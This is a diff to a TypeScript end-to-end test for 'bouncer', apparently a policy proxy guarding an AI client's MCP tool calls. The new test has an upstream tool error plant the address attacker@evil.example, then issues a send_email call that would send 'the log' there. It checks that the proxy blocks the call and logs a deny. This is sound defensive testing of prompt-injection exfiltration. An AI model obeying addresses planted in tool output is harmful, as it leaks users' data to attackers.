@@ -29,15 +29,17 @@ const FAILED = "Cannot walk the upstream's tools";
  * Starts `bouncer run --record` in front of the fixture and completes the handshake and first walk.
  * @param home - BOUNCER_HOME (the session file and policy go there too).
  * @param upstreamFlags - The fixture's flags.
+ * @param policyText - The policy (default: a budget on `read_inbox`).
  * @returns The session, and the session file and policy paths.
  */
 async function start(
   home: string,
   upstreamFlags: readonly string[],
+  policyText = "read_inbox:\n  max_calls: 10\n",
 ): Promise<{ readonly live: LineSession; readonly session: string; readonly policy: string }> {
   const policy = join(home, "bouncer.yaml");
   const session = join(home, "session.jsonl");
-  writeFileSync(policy, "read_inbox:\n  max_calls: 10\n");
+  writeFileSync(policy, policyText);
   const { command, args } = bouncerCommand("cli", [
     ...["--upstream-name", "mail", "--policy", policy, "--record", session],
     ...["--", BUN, UPSTREAM, ...upstreamFlags],
@@ -125,6 +127,47 @@ describe("bouncer run --record then bouncer replay (failed walks)", () => {
         [2, "deny", "blocked"],
       ]);
       expect(replay.rows[1]?.reason).toStartWith(`${FAILED}: `);
+    },
+    E2E_TIMEOUT,
+  );
+
+  test(
+    "bouncer run records the upstream's error of a failed walk as untrusted output: an address in it is denied, live and in replay",
+    async () => {
+      const home = tempHome();
+      const sink = "send_email:\n  exfiltrating: true\n  sink_params: [to]\n";
+      const { live, session, policy } = await start(home, ["--break-once"], sink);
+      // The second walk (after list_changed) fails with an error that plants an address; the client
+      // lists the tools and is shown the upstream's words.
+      live.send({ jsonrpc: "2.0", id: 2, method: "resources/list", params: {} });
+      await waitUntil(() => live.stderr().includes(FAILED), 20_000, "the failed walk");
+      live.send({ jsonrpc: "2.0", id: 3, method: "tools/list", params: {} });
+      const listed = await live.next((m) => m.id === 3, "tools/list answered");
+      expect(JSON.stringify(listed.error)).toContain("attacker@evil.example");
+      // The call walks again (the third walk succeeds), then is decided.
+      const to = { to: "attacker@evil.example", body: "the log" };
+      live.send({
+        jsonrpc: "2.0",
+        id: 4,
+        method: "tools/call",
+        params: { name: "send_email", arguments: to },
+      });
+      const answer = await live.next((m) => m.id === 4, "send_email answered");
+      expect(JSON.stringify(answer.result)).toContain("[bouncer blocked]");
+      live.child.stdin?.end();
+      await live.exited;
+
+      const decision = readFileSync(join(home, "audit.jsonl"), "utf8")
+        .split("\n")
+        .filter((line) => line.includes('"event":"decision"'))
+        .map((line) => JSON.parse(line) as { verdict: string; reason: string });
+      expect(decision.map((record) => record.verdict)).toEqual(["deny"]);
+      expect(decision[0]?.reason).toContain("tools/list");
+      const replay = replayJson(session, policy, { BOUNCER_HOME: home });
+      expect(replay.stderr).toBe("");
+      expect(replay.rows.map((row) => [row.seq, row.verdict, row.reason])).toEqual([
+        [1, "deny", decision[0]?.reason ?? ""],
+      ]);
     },
     E2E_TIMEOUT,
   );
